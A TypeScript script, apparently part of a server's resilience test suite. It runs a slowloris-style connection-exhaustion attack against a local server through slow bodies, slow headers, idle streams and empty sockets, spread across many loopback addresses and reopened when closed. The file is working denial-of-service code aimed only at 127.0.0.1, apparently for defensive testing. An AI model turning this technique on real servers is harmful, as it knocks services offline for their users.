import { type Socket, connect } from 'node:net';

/**
 * A process of its own that holds what a server has to give: `node attack.js <port> <addresses> <of each kind>`. It opens as
 * many sockets of each kind, from that many addresses of this machine, and opens them again when they are closed.
 * It says `{ open }` over IPC whenever it is asked something.
 */

const [port, addresses, count] = process.argv.slice(2).map(Number) as [number, number, number];

/** How often a slow one sends its next byte, in ms. */
const EVERY_MS = 5_000;
/** A closed socket is opened again after so many ms, on average. */
const AGAIN_MS = 10_000;
/** The first ones come one by one, so many a second. */
const PER_SECOND = 200;

const KINDS = [
  // A body.
  'POST /api/auth/signin HTTP/1.1\r\nHost: shop\r\nContent-Type: application/json\r\nContent-Length: 9999\r\n\r\n{',
  // Headers.
  'GET / HTTP/1.1\r\nHost: shop\r\nX-Slow: ',
  // A stream, to which nothing is sent any more.
  'GET /registry/log/stream HTTP/1.1\r\nHost: shop\r\n\r\n',
  // Nothing at all.
  '',
];
const SLOW = 2;

const open = KINDS.map(() => new Set<Socket>());
const all = Array.from({ length: count * KINDS.length }, (_, index) => index);

for (const index of all) setTimeout(() => hold(index), (index / PER_SECOND) * 1_000);
process.on('message', () => process.send!({ open: open.map(({ size }) => size) }));
process.on('disconnect', () => process.exit());

function hold(index: number): void {
  const kind = index % KINDS.length;
  const from = index % addresses;
  const localAddress = `127.1.${from >> 8}.${from & 255 || 1}`;
  const socket = connect({ port, host: '127.0.0.1', localAddress });
  const timer = kind < SLOW ? setInterval(() => socket.write('x'), EVERY_MS) : undefined;
  socket.on('connect', () => {
    open[kind]!.add(socket);
    socket.write(KINDS[kind]!);
  });
  // Whatever is answered is read, so that a refusal is noticed.
  socket.on('data', () => undefined);
  socket.on('error', () => undefined);
  socket.on('close', () => {
    clearInterval(timer);
    open[kind]!.delete(socket);
    setTimeout(() => hold(index), AGAIN_MS * (0.5 + Math.random()));
  });
}
